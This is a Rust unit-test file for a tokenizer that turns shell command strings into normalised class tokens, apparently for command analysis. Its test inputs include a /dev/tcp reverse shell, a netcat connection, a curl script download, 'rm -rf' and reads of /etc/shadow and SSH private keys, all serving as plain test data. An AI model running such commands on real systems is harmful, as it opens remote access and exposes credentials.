//! Text is cut into pieces as its comments promise.

use super::*;

fn check(text: &str, wanted: &str) {
    let mut found = Vec::new();
    pieces(text, &mut |piece| {
        found.push(piece.to_owned());
        true
    });
    assert_eq!(found.join(" "), wanted, "{text}");
}

#[test]
fn tlds_are_sorted() {
    assert!(TLDS.is_sorted());
}

#[test]
fn values_become_classes() {
    check("nc 192.0.2.7 4444", "nc @public #4");
    check("nc 10.0.0.7 4444", "nc @private #4");
    check(
        "curl -fsS https://get.example.net/a/setup.sh",
        "curl -fsS url https @host setup sh",
    );
    check(
        "curl http://10.2.3.4:8081/x",
        "curl url http @private :high x",
    );
    check("ssh root@10.0.0.1", "ssh root@ @private");
    check(
        "scp bob@host.example.org:/srv/a.tar .",
        "scp user@ @host /srv a tar",
    );
    check("ip route add 10.0.0.0/8", "ip route add @private /net");
}

#[test]
fn paths_keep_their_place_and_their_end() {
    check("/etc/cron.d/job", "/etc etc/cron.d job");
    check("/etc/shadow", "/etc shadow");
    check("/home/ann/.ssh/id_ed25519", "/home ~/.ssh id ed25519");
    check("~/.ssh/config", "/home ~/.ssh config");
    check("/tmp/.x/y", "/tmp y");
    check("/proc/4711/mem", "/proc proc/# mem");
    check("./build.sh", "./ build sh");
}

#[test]
fn shell_operators_and_options_stay() {
    check(
        "sh -i >& /dev/tcp/10.9.9.9/9001 0>&1",
        "sh -i >& /dev/tcp @private :high 0 >& 1",
    );
    check("chmod 4755 a && rm -rf b", "chmod #4 a && rm -rf b");
    check(
        "tar --file=/var/backups/x.tgz",
        "tar --file /var var/backups x tgz",
    );
    check("A=b; echo $A | base64 -d", "a = b ; echo $ a | base64 -d");
}

#[test]
fn hostile_text_is_only_text() {
    check("a\0b\u{1b}[31mc", "a b [ 31mc");
    check("", "");
    check("\u{202e}\u{feff}", "\u{202e}\u{feff}");
    let long = "x/".repeat(100_000);
    pieces(&long, &mut |_| true);
    let nested = "a=".repeat(100_000);
    pieces(&nested, &mut |_| true);
}
